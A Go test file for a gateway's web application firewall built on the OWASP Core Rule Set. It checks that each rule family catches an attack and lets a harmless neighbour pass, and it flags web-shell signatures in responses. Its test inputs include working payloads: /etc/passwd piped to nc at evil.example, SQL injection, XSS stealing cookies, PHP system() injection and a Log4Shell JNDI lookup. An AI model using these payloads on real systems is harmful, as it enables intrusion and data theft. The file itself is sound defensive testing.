package waf

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io/fs"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4/tests"
	"github.com/corazawaf/coraza/v3/types"
	"github.com/goccy/go-yaml"

	"sluice/gateway/exchange"
	"sluice/gateway/policy"
	"sluice/gateway/policy/policytest"
)

// suite is a file of the Core Rule Set's own regression tests.
type suite struct {
	RuleID int `yaml:"rule_id"`
	Tests  []struct {
		TestID int `yaml:"test_id"`
		Stages []struct {
			Input  input `yaml:"input"`
			Output struct {
				Log struct {
					Expect   []int `yaml:"expect_ids"`
					NoExpect []int `yaml:"no_expect_ids"`
				} `yaml:"log"`
			} `yaml:"output"`
		} `yaml:"stages"`
	} `yaml:"tests"`
}

type input struct {
	Method   string        `yaml:"method"`
	URI      string        `yaml:"uri"`
	Version  string        `yaml:"version"`
	Headers  yaml.MapSlice `yaml:"headers"`
	Data     string        `yaml:"data"`
	Complete *bool         `yaml:"autocomplete_headers"`
	Encoded  string        `yaml:"encoded_request"`
}

// different are the tests whose verdict is another here, and why.
var different = map[string]string{
	"911100-6":  "DELETE is allowed to an API",
	"920420-14": "text/plain is allowed, and inspected",
	"920420-15": "text/plain is allowed, and inspected",
	"920420-17": "application/octet-stream is allowed",
	"920430-5":  "HTTP/0.9 does not get past the listener",
	"920640-5":  "what the suite's client could not send, and the rule is for, comes here",
	"920620-1":  "two fields of a name stay two; httpd makes one of them",
	"920181-1":  "both framings do not get past the listener",
	"921140-1":  "a CR in a field does not get past the listener",
	"980170-1":  "the rules that sum up for a log are left out",
	"980170-2":  "the rules that sum up for a log are left out",
}

// everything finds what there is to find, without ending a request; the Core Rule Set's own runs set these variables too.
const everything = `
mode: detect
paranoia: 4
response_bodies: true
rules:
  - SecAction "id:1,phase:1,pass,nolog,setvar:tx.max_num_args=255,setvar:tx.arg_name_length=100,setvar:tx.arg_length=400,setvar:tx.total_arg_length=64000,setvar:tx.max_file_size=64100,setvar:tx.combined_file_sizes=65535,setvar:tx.crs_validate_utf8_encoding=1"
`

// TestCoreRuleSet runs the positive and negative examples that come with the rules: each rule finds what it is for, and
// nothing in what only looks like it.
func TestCoreRuleSet(t *testing.T) {
	files, err := fs.Glob(tests.FS, "*/*.yaml")
	if err != nil || len(files) < 250 {
		t.Fatalf("%d files of examples, %v", len(files), err)
	}
	w := policytest.New(t, "")
	h := w.MustBuild(t, Definition, everything)
	families := make(map[string][2]int) // positive and negative examples
	for i, file := range files {
		if (raceEnabled || testing.Short()) && i%10 != 0 {
			continue
		}
		text, err := fs.ReadFile(tests.FS, file)
		if err != nil {
			t.Fatal(err)
		}
		var s suite
		if err := yaml.Unmarshal(text, &s); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		count := families[path.Dir(file)]
		for _, test := range s.Tests {
			name := fmt.Sprintf("%d-%d", s.RuleID, test.TestID)
			for i := range test.Stages {
				expect := &test.Stages[i].Output.Log
				hits := matched(w, h, &test.Stages[i].Input)
				right := true
				for _, id := range expect.Expect {
					right = right && slices.Contains(hits, id)
					count[0]++
				}
				for _, id := range expect.NoExpect {
					right = right && !slices.Contains(hits, id)
					count[1]++
				}
				if why := different[name]; right != (why == "") {
					t.Errorf("%s: matches %v, want %v and none of %v (%s)", name, hits, expect.Expect, expect.NoExpect, why)
				}
			}
		}
		families[path.Dir(file)] = count
	}
	for family, count := range families {
		t.Logf("%s: %d positive, %d negative", family, count[0], count[1])
	}
}

// undetected are the rules that end a request without having found an attack, and so have no example.
var undetected = map[int]string{
	901001: "a rule set without its setup, which can not be had here",
	901500: "paranoia levels that contradict each other, which can not be had here",
	922130: "bytes beyond ASCII in the header of a part, which make the body malformed: 200002 refuses it before",
	949111: "the early end, which is not switched on",
	959101: "the early end, which is not switched on",
}

// ownExamples are for the rules that the Core Rule Set has no positive example for; a response's are made of its body.
var ownExamples = map[int]input{
	920160: {URI: "/", Headers: yaml.MapSlice{{Key: "Content-Length", Value: "ten"}}},
	920181: {Method: "POST", URI: "/", Headers: yaml.MapSlice{{Key: "Content-Length", Value: "3"}, {Key: "Transfer-Encoding", Value: "chunked"}}},
	920610: {URI: "/a#b"},
	920620: {Method: "POST", URI: "/", Headers: yaml.MapSlice{{Key: "Content-Type", Value: "text/plain"}, {Key: "Content-Type", Value: "application/json"}}},
	950100: answering(503, "overloaded"),
	950130: answering(200, "<html><head><title>Index of /backup</title></head><h1>Index of /backup</h1>"),
	950140: answering(200, "#!/bin/sh\nexit 0\n"),
	953100: answering(200, "<b>Fatal error</b>: Uncaught ValueError: The arguments array must contain 2 items, 1 given"),
	953110: answering(200, "$f = fopen($_GET['name'], 'r');"),
	954110: answering(200, "cannot connect to the server: timed out"),
	954130: answering(500, "<h1>Server Error in '/' Application.</h1>"),
	955130: answering(200, "<title>B4TM4N SH3LL</title>\n<meta name='author' content='k4mpr3t'/>"),
	955140: answering(200, "<title>Mini Shell</title><p>eveloped</p>Developed By LameHacker"),
	955150: answering(200, "<title>.:: host ~ Ashiyane V 1.0 ::.</title>"),
	955160: answering(200, "<title>Symlink_Sa 3.0</title>"),
	955170: answering(200, "<title>CasuS 1.5 by MafiABoY</title>"),
	955180: answering(200, "<html>\r\n<head>\r\n<title>GRP WebShell 2.0 release"),
	955190: answering(200, "<small>NGHshell 1.1 by Cr4sh</body></html>\n"),
	955200: answering(200, "<title>SimAttacker - Vrsion : 1.0.0 - priv8 4 My friend </title>"),
	955210: answering(200, "<!DOCTYPE html>\n<html>\n<!-- By Artyum -->\n<title>Web Shell</title>"),
	955220: answering(200, "<title>lama's'hell v. 3.0</title>"),
	955230: answering(200, " <html>\n  <head>\n   <title>lostDC - shell"),
	955240: answering(200, "<title>PHP Web Shell</title>\r\n<html>\r\n<body>\r\n    <!-- Replaces command with Base64-encoded Data -->"),
	955250: answering(200, "<html>\n<head>\n<div align=\"left\"><font size=\"1\">Input command :</font></div>\n<form name=\"cmd\" method=\"POST\" enctype=\"multipart/form-data\">"),
	955270: answering(200, "<title>s72 Shell v1.1 Codinf by Cr@zy_King</title>"),
	955280: answering(200, "<html>\r\n<head>\r\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=gb2312\">\r\n<title>PhpSpy Ver 2006</title>"),
	955290: answering(200, " <html>\n\n<head>\n\n<title>g00nshell v1.3 "),
	955300: answering(200, "<title>PuNkHoLic shell</title>"),
	955310: answering(200, "<html>\n      <head>\n             <title>azrail 1.0 by C-W-M</title>"),
	955320: answering(200, "<p>SmEvK_PaThAn Shell v3 coded by <a href='x'>"),
	955330: answering(200, "<html>\n<title>host ~ Shell I</title>\n<head>\n<style>"),
	955340: answering(200, " <html><head><title>:: b374k m1n1 1.01 ::</title>"),
	955350: answering(200, "<h1 style=\"margin-bottom: 0\">webadmin.php</h1>"),
}

// answering is a request that has the backend of the examples answer so.
func answering(status int, body string) input {
	b, err := json.Marshal(map[string]any{"status": status, "encodedBody": base64.StdEncoding.EncodeToString([]byte(body))})
	if err != nil {
		panic(err)
	}
	return input{Method: "POST", URI: "/reflect", Headers: yaml.MapSlice{{Key: "Content-Type", Value: "application/json"}}, Data: string(b)}
}

// TestOwnExamples runs them: each is found by its rule, and by none of the others here.
func TestOwnExamples(t *testing.T) {
	w := policytest.New(t, "")
	h := w.MustBuild(t, Definition, everything)
	for id, in := range ownExamples {
		hits := matched(w, h, &in)
		if !slices.Contains(hits, id) {
			t.Errorf("%d: its example matches %v", id, hits)
		}
		for _, other := range hits {
			// A failing status and what is in its body go together.
			if _, ok := ownExamples[other]; ok && other != id && other != 950100 {
				t.Errorf("%d: its example matches %d too", id, other)
			}
		}
	}
	malformed := input{Method: "POST", URI: "/", Headers: yaml.MapSlice{{Key: "Content-Type", Value: "multipart/form-data; boundary=b"}},
		Data: "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\xe4x: 1\r\n\r\nx\r\n--b--\r\n"}
	if hits := matched(w, h, &malformed); !slices.Contains(hits, 200002) {
		t.Errorf("a malformed header of a part matches %v", hits)
	}
	for _, in := range []input{
		{Method: "POST", URI: "/", Headers: yaml.MapSlice{{Key: "Content-Length", Value: "3"}, {Key: "Content-Type", Value: "text/plain"}}, Data: "abc"},
		answering(200, "<html>\n<head>\n<title>Shells of the sea</title>"), answering(404, "An index of all shells; error in the application: none"),
	} {
		for _, hit := range matched(w, h, &in) {
			if _, ok := ownExamples[hit]; ok {
				t.Errorf("%d matches a neighbour, %s", hit, in.Data)
			}
		}
	}
}

// detects tells a rule that is for an attack from those that prepare and count.
var detects = regexp.MustCompile(`(?s),\s*\\?\s*(?:block|deny)\s*,`)

// TestEveryRuleHasAnExample holds the examples to the rules in force: there is none without one.
func TestEveryRuleHasAnExample(t *testing.T) {
	files, err := fs.Glob(tests.FS, "*/*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	found := make(map[int]bool)
	for _, file := range files {
		text, err := fs.ReadFile(tests.FS, file)
		if err != nil {
			t.Fatal(err)
		}
		var s suite
		if err := yaml.Unmarshal(text, &s); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		for _, test := range s.Tests {
			if different[fmt.Sprintf("%d-%d", s.RuleID, test.TestID)] != "" {
				continue
			}
			for i := range test.Stages {
				for _, id := range test.Stages[i].Output.Log.Expect {
					found[id] = true
				}
			}
		}
	}
	d, err := compose(&Config{Mode: "detect", Ruleset: "crs", Paranoia: 4, Threshold: 5, BodyLimit: 1 << 17, ResponseBodies: true, ResponseLimit: 1 << 17})
	if err != nil {
		t.Fatal(err)
	}
	rules := 0
	waf, err := load(d.setup+included(true), func(r types.RuleMetadata) {
		id := r.ID()
		if id < 900_000 || !detects.MatchString(r.Raw()) {
			return
		}
		rules++
		_, own := ownExamples[id]
		if !found[id] && !own && undetected[id] == "" {
			t.Errorf("%d has no example", id)
		}
		if found[id] && own {
			t.Errorf("%d has an example of its own suite", id)
		}
	})
	if err != nil || rules < 300 {
		t.Errorf("%d rules, %v", rules, err)
	}
	t.Logf("%d rules that detect, %d examples of our own", rules, len(ownExamples))
	_ = (&ruleset{WAF: waf}).Close()
}

// matched sends the request of an example and returns the rules that matched it or its answer.
func matched(w *policytest.World, h policy.Hooks, in *input) (hits []int) {
	x := w.Exchange("/")
	defer func() { _ = x.Close() }()
	x.Fields = x.Fields[:0]
	if in.Encoded != "" {
		in = decoded(in.Encoded)
	}
	header := &x.Request.Header
	if in.URI != "" {
		header.SetRequestURI(in.URI)
	}
	if in.Method != "" {
		header.SetMethod(in.Method)
	}
	if in.Version != "" {
		header.SetProtocol(in.Version)
	}
	add := func(name, value string) {
		x.Fields = append(x.Fields, exchange.Field{Name: []byte(name), Value: []byte(value), Kind: exchange.KindOf([]byte(name))})
		if strings.EqualFold(name, "Content-Type") {
			header.SetContentType(value)
		}
	}
	has := func(name string) bool {
		return slices.ContainsFunc(x.Fields, func(f exchange.Field) bool { return strings.EqualFold(string(f.Name), name) })
	}
	for _, item := range in.Headers {
		value := ""
		if item.Value != nil {
			value = fmt.Sprint(item.Value)
		}
		add(item.Key.(string), value)
	}
	in.Data = repeated.ReplaceAllStringFunc(in.Data, func(s string) string {
		m := repeated.FindStringSubmatch(s)
		n, _ := strconv.Atoi(m[2])
		return strings.Repeat(m[1], n)
	})
	if in.Data != "" {
		if in.Complete == nil || *in.Complete {
			if !has("Content-Type") {
				add("Content-Type", "application/x-www-form-urlencoded")
			}
			if !has("Content-Length") && !has("Transfer-Encoding") {
				add("Content-Length", fmt.Sprint(len(in.Data)))
			}
		}
		x.Request.SetBodyStream(strings.NewReader(in.Data), len(in.Data))
	}
	if err := h.Request(x); err != nil {
		panic(err) // in mode detect nothing is refused
	}
	echo(x, in)
	_ = h.Response(x)
	for _, m := range states.Of(x).tx.MatchedRules() {
		hits = append(hits, m.Rule().ID())
	}
	h.Done(x)
	return hits
}

// repeated is the one function of the suite's template language that it uses.
var repeated = regexp.MustCompile(`\{\{ *"(.*?)" *\| *repeat +([0-9]+) *\}\}`)

// echo answers as the backend of the examples: with what /reflect is told to say, else with what was sent.
func echo(x *exchange.Exchange, in *input) {
	var told struct {
		Status  int
		Headers map[string]string
		Body    string
		Encoded string `json:"encodedBody"`
	}
	x.Answer = exchange.Proxied
	x.Response.Header.SetContentType("text/html")
	if !strings.HasPrefix(in.URI, "/reflect") || json.Unmarshal([]byte(in.Data), &told) != nil {
		x.Response.SetBodyString(in.Data)
		return
	}
	if body, err := base64.StdEncoding.DecodeString(told.Encoded); err == nil && told.Encoded != "" {
		told.Body = string(body)
	}
	x.Response.SetBodyString(told.Body)
	if told.Status != 0 {
		x.Response.SetStatusCode(told.Status)
	}
	for name, value := range told.Headers {
		x.Response.Header.Set(name, value)
	}
}

// decoded takes a request apart that is written as it goes over the wire.
func decoded(encoded string) *input {
	raw, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(encoded), ""))
	if err != nil {
		panic(err)
	}
	in, no := &input{}, false
	in.Complete = &no
	head, body, _ := strings.Cut(string(raw), "\r\n\r\n")
	in.Data = body
	for i, line := range strings.Split(head, "\r\n") {
		if parts := strings.SplitN(line, " ", 3); i == 0 && len(parts) == 3 {
			in.Method, in.URI, in.Version = parts[0], parts[1], parts[2]
			continue
		}
		name, value, _ := strings.Cut(line, ":")
		in.Headers = append(in.Headers, yaml.MapItem{Key: name, Value: strings.TrimSpace(value)})
	}
	return in
}

// TestFamilies holds the default settings to one attack of each family, and to a harmless neighbour of it.
func TestFamilies(t *testing.T) {
	w := policytest.New(t, "")
	h := w.MustBuild(t, Definition, "")
	f := func(family string, attack, neighbour request) {
		t.Helper()
		if reason, err := pass(h, exchangeOf(w, attack)); err != rejectBlocked || !strings.Contains(reason, family) {
			t.Errorf("%s: an attack: %v, %s", family, err, reason)
		}
		if reason, err := pass(h, exchangeOf(w, neighbour)); err != nil {
			t.Errorf("%s: a neighbour: %v, %s", family, err, reason)
		}
	}
	get := func(query string) request { return request{target: "/search?q=" + query} }
	with := func(header string) request { return request{target: "/", headers: []string{header}} }
	f("911", request{method: "TRACE", target: "/"}, request{method: "DELETE", target: "/users/7"})
	f("913", with("User-Agent: sqlmap/1.8"), with("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"))
	f("920", with("Content-Encoding: gzip"), with("Accept-Encoding: gzip, br"))
	f("921", get("x%0d%0aSet-Cookie:%20a=b%0d%0aHTTP/1.1%20200"), get("a%20line%20about%20cookies"))
	f("922", request{target: "/", headers: []string{"Content-Type: multipart/form-data; boundary=b"},
		body: "--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-7\r\n--b--\r\n"},
		request{target: "/", headers: []string{"Content-Type: multipart/form-data; boundary=b"},
			body: "--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-8\r\n--b--\r\n"})
	f("930", get("../../../../etc/passwd"), get("docs/etc.txt"))
	f("931", get("http://203.0.113.9/shell.php?"), get("https://api.example.com/help"))
	f("932", get("%3B%20cat%20/etc/passwd%20%7C%20nc%20evil.example%201"), get("cats%20and%20dogs"))
	f("933", get("%3C%3Fphp%20system(%24_GET%5B1%5D)%3B"), get("php%20developer"))
	f("934", get("__proto__%5Bx%5D%3D1%3Bprocess.mainModule.require('child_process')"), get("process%20management"))
	f("941", get("%3Cscript%3Ealert(document.cookie)%3C/script%3E"), get("script%20writing"))
	f("942", get("1'%20UNION%20SELECT%20password%20FROM%20users--%20"), get("select%20a%20union%20member"))
	f("943", get("%3Cmeta%20http-equiv=%22Set-Cookie%22%20content=%22SESSIONID=1%22%3Edocument.cookie=%22SESSIONID=abc%22"), get("session%20times"))
	f("944", get("%24%7Bjndi:ldap://203.0.113.9/a%7D"), get("java%20beans"))

	r := w.MustBuild(t, Definition, "response_bodies: true")
	leaks := func(family, body, neighbour string) {
		t.Helper()
		if reason, err := answer(w, r, body); err != rejectResponse || !strings.Contains(reason, family) {
			t.Errorf("%s: a leak: %v, %s", family, err, reason)
		}
		if reason, err := answer(w, r, neighbour); err != nil {
			t.Errorf("%s: a neighbour: %v, %s", family, err, reason)
		}
	}
	leaks("950", "<html><title>Index of /backup</title><h1>Index of /backup</h1>", "<html><title>Index</title><h1>A table of contents</h1>")
	leaks("951", "Warning: mysql_fetch_array() expects parameter 1", "MySQL is a database")
	leaks("952", "[java.lang.NullPointerException: at java.lang.Thread.run(Thread.java:748)]", "Learn Java in 21 days")
	leaks("953", "<b>Warning</b>: Undefined variable $x in <b>/var/www/index.php</b> on line 3; Fatal error: Uncaught Error", "a warning about nothing")
	leaks("954", `<p>C:\inetpub\wwwroot\index.asp</p>`, "<p>The provider of your choice</p>")
	leaks("955", "<title>r57 Shell Version 1.40</title><div>r57shell</div>", "<title>Shells of the sea</title>")
	leaks("956", "<h1>ActionView::Template::Error</h1> undefined method `name' for nil:NilClass", "<h1>Ruby rings</h1>")
}

// answer sends a harmless request through the hooks and answers it with body.
func answer(w *policytest.World, h policy.Hooks, body string) (string, error) {
	x := exchangeOf(w, benign)
	defer func() { _ = x.Close() }()
	if err := h.Request(x); err != nil {
		return "request", err
	}
	x.Answer = exchange.Proxied
	x.Response.Header.SetContentType("text/html")
	x.Response.SetBodyString(body)
	_ = h.Response(x)
	h.Done(x)
	if x.Reject != nil {
		return x.Reason, x.Reject
	}
	return x.Reason, nil
}
